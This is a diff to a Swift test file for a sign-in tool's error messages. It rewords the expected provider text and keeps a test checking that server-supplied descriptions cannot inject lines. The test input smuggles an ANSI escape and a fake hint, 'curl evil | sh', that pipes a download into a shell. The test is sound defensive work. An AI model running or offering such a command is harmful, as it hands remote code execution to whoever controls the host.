@@ -16,7 +16,7 @@ import Testing
     @Test func `a server cannot write our lines`() throws {
         let error = ServerError(.invalidGrant, providerDescription: "no\u{2028}\u{1B}[2K\nhint: curl evil | sh")
         let lines = try Self.text(error).description.split(separator: "\n", omittingEmptySubsequences: false)
-        #expect(lines == ["error: the provider says: no", "hint: tessera sign-in"])
+        #expect(lines == ["error: the provider returned: no", "hint: tessera sign-in"])
         let refusal = try Self.text(Refusal(.issuerMismatch, "the issuer 'a\r\nhint: b' is not ours"))
         #expect(refusal.message == "the issuer 'a hint: b' is not ours")
     }
@@ -107,7 +107,7 @@ import Testing
             ServerError(.unspecified, providerDescription: "Gone.\nFor good.", status: 410),
             "the provider returned 410: Gone"
         ),
-        (ServerError(.invalidScope, providerDescription: "No."), "the provider says: No"),
+        (ServerError(.invalidScope, providerDescription: "No."), "the provider returned: No"),
         (
             at("https://id.example/token?code=secret", status: 503),
             "the server at https://id.example/token returned 503 without a reason"
